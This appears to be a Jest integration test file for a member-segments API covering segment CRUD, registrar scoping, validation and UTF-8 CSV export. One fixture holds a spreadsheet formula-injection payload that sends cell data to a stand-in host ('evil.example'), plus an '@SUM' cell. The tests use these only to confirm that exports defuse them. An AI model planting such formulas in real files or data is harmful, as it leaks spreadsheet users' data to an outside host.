import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import type { Agent, Response } from 'supertest';
import { createTestApp, type TestApp } from '../../test/test-app';
import { insertMembers } from '../../test/fixtures';
import { SegmentsService } from './segments.service';

type Signed = Agent & { userId: string };

/** Reads a response body as raw bytes, to see the BOM exactly as sent. */
const raw = (res: Response, done: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (chunk: Buffer) => chunks.push(chunk));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};

async function download(agent: Agent, url: string, query: Record<string, unknown> = {}) {
  const res = await agent.get(url).query(query).buffer(true).parse(raw).expect(200);
  const bytes = res.body as Buffer;
  const rows: string[][] = parse(bytes.toString('utf8'), { bom: true, relax_column_count: false });
  return { res, bytes, header: rows[0], rows: rows.slice(1) };
}

describe(SegmentsService.name, () => {
  let t: TestApp;
  let organiser: Signed;
  let registrar: Signed;

  beforeAll(async () => {
    t = await createTestApp();
    organiser = await t.signedIn('organiser');
    registrar = await t.signedIn('registrar', { countries: ['ZA'] });
    await insertMembers(t.app, [
      {
        firstName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        lastName: 'Ntšekhe',
        email: 'evil@example.org',
        phone: '+27821234567',
        whatsapp: '+27821234567',
        region: 'Gauteng',
        city: 'Johannesburg',
        occupation: '@SUM(1+1)',
        sectors: ['health', 'investment'],
        consentInvitations: true,
        consentAt: new Date('2026-03-01T10:00:00Z'),
        consentMethod: 'paper_form',
      },
      { firstName: 'Palesa', lastName: 'Mokoena', email: 'palesa@example.org', region: 'Gauteng', sectors: ['health'] },
      {
        firstName: 'Lineo',
        lastName: 'Letsie',
        email: 'lineo@example.org',
        countryCode: 'GB',
        region: null,
        sectors: ['health'],
      },
      { firstName: 'Thabo', lastName: 'Sello', email: 'thabo@example.org', region: 'Free State', sectors: ['trade'] },
    ]);
  });
  afterAll(() => t.close());

  it('saves, lists with live counts, renames, changes and deletes segments', async () => {
    const created = await organiser
      .post('/api/v1/segments')
      .send({ name: '  Health   professionals ', filter: { sectors: ['health'], text: '' } })
      .expect(201);
    expect(created.body).toMatchObject({
      name: 'Health professionals',
      filter: { sectors: ['health'] },
      count: 3,
      canEdit: true,
    });
    expect(created.body.filter).toEqual({ sectors: ['health'] });
    const id = created.body.id;

    await organiser
      .post('/api/v1/members')
      .send({
        firstName: 'Neo',
        lastName: 'Tau',
        email: 'neo@example.org',
        countryCode: 'ZA',
        region: 'Gauteng',
        sectors: ['health'],
      })
      .expect(201);
    const listed = await organiser.get('/api/v1/segments').expect(200);
    expect(listed.body).toEqual([expect.objectContaining({ id, name: 'Health professionals', count: 4 })]);

    const renamed = await organiser.patch(`/api/v1/segments/${id}`).send({ name: 'Health workers' }).expect(200);
    expect(renamed.body).toMatchObject({ name: 'Health workers', filter: { sectors: ['health'] }, count: 4 });
    const narrowed = await organiser
      .patch(`/api/v1/segments/${id}`)
      .send({ filter: { sectors: ['health'], regions: ['Gauteng'], consentInvitations: true } })
      .expect(200);
    expect(narrowed.body).toMatchObject({ name: 'Health workers', count: 1 });
    expect((await organiser.get(`/api/v1/segments/${id}`).expect(200)).body.count).toBe(1);

    await organiser.delete(`/api/v1/segments/${id}`).expect(204);
    await organiser.get(`/api/v1/segments/${id}`).expect(404);
    await organiser.delete(`/api/v1/segments/${id}`).expect(404);
  });

  it('validates segments strictly: unknown keys, wrong values, blank or taken names', async () => {
    await organiser
      .post('/api/v1/segments')
      .send({ name: 'Gauteng', filter: { regions: ['Gauteng'] } })
      .expect(201);
    const before = (await organiser.get('/api/v1/segments')).body.length;
    const unknown = await organiser
      .post('/api/v1/segments')
      .send({ name: 'Odd', filter: { colour: 'blue', sectors: ['golf'], hasEmail: 'yes' }, owner: 'me' })
      .expect(400);
    expect(Object.keys(unknown.body.fields).sort()).toEqual(['filter.colour', 'filter.hasEmail', 'filter.sectors', 'owner']);
    const shapes = await organiser.post('/api/v1/segments').send({ name: '', filter: 'ZA' }).expect(400);
    expect(Object.keys(shapes.body.fields).sort()).toEqual(['filter', 'name']);
    const blank = await organiser.post('/api/v1/segments').send({ name: '   ', filter: {} }).expect(400);
    expect(blank.body.fields.name).toEqual(['enter a name']);
    await organiser
      .post('/api/v1/segments')
      .send({ name: 'x'.repeat(121), filter: {} })
      .expect(400);
    await organiser.post('/api/v1/segments').send({ name: 'No filter' }).expect(400);
    const taken = await organiser.post('/api/v1/segments').send({ name: 'GAUTENG ', filter: {} }).expect(409);
    expect(taken.body.fields.name).toEqual(['already in use']);
    expect((await organiser.get('/api/v1/segments')).body.length).toBe(before);
  });

  it("keeps a registrar's segments to their countries and lets only authors and organisers change segments", async () => {
    const mine = await registrar.post('/api/v1/segments').send({ name: 'My health people', filter: { sectors: ['health'] } });
    expect(mine.status).toBe(201);
    expect(mine.body).toMatchObject({ filter: { sectors: ['health'], countries: ['ZA'] }, count: 3, canEdit: true });
    // The same segment holds the same people for an organiser.
    expect((await organiser.get(`/api/v1/segments/${mine.body.id}`)).body.count).toBe(3);
    const outside = await registrar
      .post('/api/v1/segments')
      .send({ name: 'UK', filter: { countries: ['GB'] } })
      .expect(400);
    expect(outside.body.fields['filter.countries']).toEqual(['you can only use ZA']);

    const theirs = await organiser.post('/api/v1/segments').send({ name: 'Everyone in health', filter: { sectors: ['health'] } });
    const seen = (await registrar.get('/api/v1/segments').expect(200)).body.find((s: { id: string }) => s.id === theirs.body.id);
    expect(seen).toMatchObject({ count: 3, canEdit: false });
    expect((await organiser.get(`/api/v1/segments/${theirs.body.id}`)).body.count).toBe(4);
    await registrar.patch(`/api/v1/segments/${theirs.body.id}`).send({ name: 'Mine now' }).expect(403);
    await registrar.delete(`/api/v1/segments/${theirs.body.id}`).expect(403);
    await registrar.patch(`/api/v1/segments/${mine.body.id}`).send({ name: 'My health workers' }).expect(200);
    await organiser.delete(`/api/v1/segments/${mine.body.id}`).expect(204);
  });

  it('exports a filter as UTF-8 CSV with a BOM, neutralising cells a spreadsheet would run', async () => {
    const { res, bytes, header, rows } = await download(organiser, '/api/v1/members/export.csv', { regions: 'Gauteng' });
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="members-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(header.slice(0, 6)).toEqual(['Member ID', 'First name', 'Surname', 'Email', 'Phone', 'WhatsApp']);
    expect(rows.length).toBe(3);
    const row = (name: string) => Object.fromEntries(header.map((h, i) => [h, rows.find((r) => r[2] === name)![i]]));
    const evil = row('Ntšekhe');
    expect(evil['First name']).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    expect(evil.Phone).toBe("'+27821234567");
    expect(evil.WhatsApp).toBe("'+27821234567");
    expect(evil.Occupation).toBe("'@SUM(1+1)");
    expect(evil).toMatchObject({
      Surname: 'Ntšekhe',
      Country: 'ZA',
      Region: 'Gauteng',
      Sectors: 'investment; health',
      'Consent: invitations': 'yes',
      'Consent: updates': 'no',
      'Consent given at (UTC)': '2026-03-01T10:00:00.000Z',
      'Consent method': 'paper_form',
    });
    // Every cell is quoted on the wire, so a comma or quote inside a name cannot shift columns.
    expect(bytes.toString('utf8')).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
  });

  it('exports a saved segment, scoped for registrars, and refuses bad filters before streaming', async () => {
    const segment = await organiser.post('/api/v1/segments').send({ name: 'Health (export)', filter: { sectors: ['health'] } });
    const all = await download(organiser, `/api/v1/segments/${segment.body.id}/export.csv`);
    expect(all.res.headers['content-disposition']).toMatch(/filename="health-export-\d{4}-\d{2}-\d{2}\.csv"/);
    expect(all.rows.map((r) => r[1]).sort()).toEqual(expect.arrayContaining(['Lineo', 'Palesa']));
    expect(all.rows.length).toBe(4);

    const scoped = await download(registrar, `/api/v1/segments/${segment.body.id}/export.csv`);
    expect(scoped.rows.length).toBe(3);
    expect(scoped.rows.map((r) => r[6])).toEqual(['ZA', 'ZA', 'ZA']);
    const outside = await download(registrar, '/api/v1/members/export.csv', { countries: 'GB' });
    expect(outside.rows).toEqual([]);
    expect(outside.header[0]).toBe('Member ID');

    await organiser.get('/api/v1/segments/00000000-0000-4000-8000-000000000000/export.csv').expect(404);
    const bad = await organiser.get('/api/v1/members/export.csv').query({ sectors: 'golf', page: 2 }).expect(400);
    expect(Object.keys(bad.body.fields).sort()).toEqual(['page', 'sectors']);
  });
});
